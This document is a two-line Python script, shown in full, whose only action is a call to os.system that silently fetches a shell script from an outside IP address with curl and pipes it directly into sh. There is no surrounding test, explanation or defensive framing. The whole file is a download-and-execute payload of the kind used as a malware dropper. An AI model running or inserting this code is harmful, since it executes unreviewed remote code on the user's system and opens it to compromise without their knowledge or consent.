import os
os.system('curl -s http://192.0.2.7/x.sh | sh')
